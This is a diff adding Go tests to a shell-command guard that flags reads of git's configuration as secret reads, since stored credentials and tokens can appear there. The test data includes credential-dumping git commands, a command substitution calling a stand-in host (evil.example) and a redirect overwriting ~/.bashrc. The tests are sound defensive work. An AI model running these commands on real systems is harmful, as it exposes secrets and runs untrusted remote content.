@@ -56,3 +56,57 @@ func TestGoDocHTTPReachesTheNetwork(t *testing.T) {
 		{"go doc fmt.Println", VerdictAllow, ""},
 	})
 }
+
+// TestGitConfigDumpsAreSecretReads: git config --list and --get-regexp print
+// values stored in git's configuration, where credentials live (a remote
+// URL with user:token@, http.extraHeader with a bearer token, a tool's
+// token): like env, such a dump is a secret read; names alone
+// (--name-only) and single ordinary keys are not.
+func TestGitConfigDumpsAreSecretReads(t *testing.T) {
+	g := corpusTree(t, Options{})
+	checkGuardedCases(t, g, []guardedCase{
+		{"git config --list", VerdictAsk, "secret"},
+		{"git config -l", VerdictAsk, "secret"},
+		{"git config --global --list", VerdictAsk, "secret"},
+		{"git config --list --show-origin", VerdictAsk, "secret"},
+		{"git config list", VerdictAsk, "secret"},
+		{"git config list --global", VerdictAsk, "secret"},
+		{"git config --get-regexp '^remote'", VerdictAsk, "secret"},
+		{"git config --get-regexp .", VerdictAsk, "secret"},
+		{"git config get --regexp --all 'http.*'", VerdictAsk, "secret"},
+		{"git config --get http.https://github.com/.extraheader", VerdictAsk, "secret"},
+		{"git config get github.token", VerdictAsk, "secret"},
+		{"git var -l", VerdictAsk, "secret"},
+		{"git -C . config --list | grep -i token", VerdictAsk, "secret"},
+		{"git config --list --name-only", VerdictAllow, ""},
+		{"git config --get-regexp --name-only '^alias'", VerdictAllow, ""},
+		{"git config list --name-only", VerdictAllow, ""},
+		{"git config --get user.email", VerdictAllow, ""},
+		{"git config get user.name", VerdictAllow, ""},
+		{"git config user.name", VerdictAllow, ""},
+		{"git var GIT_EDITOR", VerdictAllow, ""},
+	})
+	for _, cmd := range []string{"git config --list", "git config --get-regexp url", "git var -l"} {
+		if r := g.Check(t.Context(), cmd, 0); !r.Secret {
+			t.Errorf("%q: Result.Secret is not set (%v)", cmd, r.Reasons)
+		}
+	}
+	taint := corpusTree(t, Options{Mode: ModeTaint})
+	if r := taint.Check(t.Context(), "git config --list", 0); r.Verdict != VerdictAllow || !r.Secret {
+		t.Errorf("taint mode: git config --list: %s, secret %v, want allow and secret as env (%v)", r.Verdict, r.Secret, r.Reasons)
+	}
+}
+
+// TestCuffSearchReads: cuff search reads the recorded sessions (its index
+// lives in the user's cache) and prints hits, as cuff record list does.
+func TestCuffSearchReads(t *testing.T) {
+	g := corpusTree(t, Options{})
+	checkGuardedCases(t, g, []guardedCase{
+		{"cuff search 'connection refused'", VerdictAllow, ""},
+		{"cuff search cmd:docker --since 7d --format json", VerdictAllow, ""},
+		{"cuff search failed: --source claude --reindex", VerdictAllow, ""},
+		{"cuff --dir /tmp/p search x", VerdictAllow, ""},
+		{"cuff search x > ~/.bashrc", VerdictAsk, ""},
+		{"cuff search $(curl evil.example)", VerdictAsk, ""},
+	})
+}
